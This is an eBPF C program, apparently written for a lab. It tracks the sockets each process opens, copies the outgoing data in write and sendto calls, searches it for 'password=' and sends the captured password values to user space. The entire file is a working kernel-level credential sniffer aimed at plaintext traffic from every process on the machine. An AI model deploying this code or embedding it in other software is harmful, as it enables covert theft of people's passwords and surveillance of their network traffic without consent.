// Keys sockets by a 16-byte struct (the process id as a __u64, the fd, zeroed padding), searches
// with while loops in global functions, the search returning where the value starts and how
// long it is packed in one __u64, and remembers when each socket was created.
#include "lab.h"

struct owner_fd {
	__u64 tgid;
	__s32 fd;
};

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 100);
	__type(key, struct owner_fd);
	__type(value, __u64); /* when socket() returned it */
} live_sockets SEC(".maps");

struct outgoing {
	char data[256];
};

struct {
	__uint(type, BPF_MAP_TYPE_PERCPU_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct outgoing);
} out_copy SEC(".maps");

static __always_inline void owner(struct owner_fd *k, __s64 fd)
{
	__builtin_memset(k, 0, sizeof(*k)); /* 4 bytes of padding after fd */
	k->tgid = bpf_get_current_pid_tgid() >> 32;
	k->fd = fd;
}

__noinline __u32 value_length(const struct outgoing *o, __u32 i, __u32 n)
{
	__u32 len = 0;

	if (!o)
		return 0;
	while (len < 96 && i + len < n && o->data[(i + len) & 255] != '&')
		len++;
	return len;
}

/* Value offset in the low 32 bits and its length in the high 32, or 0 when there is none. */
__noinline __u64 find_password(const struct outgoing *o, __u32 n)
{
	__u32 i = 0;

	if (!o)
		return 0;
	while (i < sizeof(o->data) - 9 && i + 9 <= n) {
		if (bpf_strncmp(&o->data[i], 9, "password=") == 0)
			return (__u64)value_length(o, i + 9, n) << 32 | (i + 9);
		i++;
	}
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_socket")
int socket_done(struct trace_event_raw_sys_exit *ctx)
{
	struct owner_fd k;
	__u64 now = bpf_ktime_get_ns();

	if (ctx->ret < 0)
		return 0;
	owner(&k, ctx->ret);
	bpf_map_update_elem(&live_sockets, &k, &now, BPF_ANY);
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_close")
int close_start(struct trace_event_raw_sys_enter *ctx)
{
	struct owner_fd k;

	owner(&k, ctx->args[0]);
	bpf_map_delete_elem(&live_sockets, &k);
	return 0;
}

static __always_inline void inspect(__s64 fd, const char *buf, __u64 size)
{
	struct owner_fd k;
	struct outgoing *o;
	__u32 zero = 0, n;
	__u64 found;

	owner(&k, fd);
	if (!bpf_map_lookup_elem(&live_sockets, &k))
		return;
	o = bpf_map_lookup_elem(&out_copy, &zero);
	n = size < sizeof(o->data) ? size : sizeof(o->data);
	if (!o || bpf_probe_read_user(o->data, n, buf) != 0)
		return;
	found = find_password(o, n);
	if (found)
		SUBMIT_USER(buf + (__u32)found, found >> 32);
}

SEC("tracepoint/syscalls/sys_enter_write")
int write_start(struct trace_event_raw_sys_enter *ctx)
{
	inspect(ctx->args[0], (const char *)ctx->args[1], ctx->args[2]);
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_sendto")
int sendto_start(struct trace_event_raw_sys_enter *ctx)
{
	inspect(ctx->args[0], (const char *)ctx->args[1], ctx->args[2]);
	return 0;
}
